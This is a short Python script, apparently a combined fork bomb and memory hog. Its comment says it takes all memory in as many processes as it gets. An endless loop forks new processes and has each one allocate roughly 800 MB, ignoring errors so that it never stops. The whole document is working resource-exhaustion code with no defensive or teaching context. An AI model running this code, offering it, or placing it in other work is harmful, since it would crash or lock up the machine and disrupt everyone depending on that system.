# takes all memory in as many processes as it gets
import os

while True:
    try:
        os.fork()
        kept = [bytearray(b"x" * (8 << 20)) for _ in range(100)]
    except (OSError, MemoryError):
        pass
